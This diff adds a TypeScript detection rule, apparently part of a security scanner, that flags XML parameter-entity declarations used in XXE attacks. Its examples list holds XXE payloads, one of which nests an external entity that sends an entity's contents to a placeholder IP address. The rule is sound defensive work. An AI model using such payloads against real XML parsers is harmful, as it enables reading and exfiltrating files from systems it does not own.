@@ -1,0 +1,39 @@
+import { xmlGrammar } from '../../tokenise/xml.ts';
+import type { ValueRule } from '../rule.ts';
+
+/** `<!ENTITY % a "<!ENTITY b SYSTEM …">`: declarations that build declarations. */
+export const parameterEntity: ValueRule = {
+  id: 'xxe.parameter-entity',
+  category: 'xxe',
+  cwe: 'CWE-611',
+  severity: 'critical',
+  score: 90,
+  message: 'declares a parameter entity, with which a document writes its own document type',
+  trigger: { literals: [['<!entity']] },
+  judge: (subject) => {
+    const reading = subject.tokens(xmlGrammar);
+    for (const one of reading.declarations) {
+      if (one.kind !== 'entity' || !one.isParameter) continue;
+      const isNested = nested.test(one.literal);
+      if (isNested) return { start: one.start, end: one.end, score: 92 };
+      if (isExpanded(subject.text, one.name)) return { start: one.start, end: one.end, score: 80 };
+    }
+    return undefined;
+  },
+  examples: [
+    `<!ENTITY % a "<!ENTITY b SYSTEM 'http://203.0.113.5/?%c;'>"> %a;`,
+    `<!DOCTYPE r [<!ENTITY % s '>%x; <!ENTITY &#x25; e "">'>%s;]>`,
+    '<!DOCTYPE r [<!ENTITY % one "<"> %one;]>',
+  ],
+  lookalikes: [
+    'A parameter entity is declared with <!ENTITY % name "text"> in the document type.',
+    '<!ELEMENT p (#PCDATA)>',
+  ],
+};
+
+const nested = /<!|&#(?:x25|37);|%[\w.-]{1,60};/i;
+
+/** Does `%name;` stand in the text? */
+function isExpanded(text: string, name: string): boolean {
+  return name !== '' && text.includes(`%${name};`);
+}
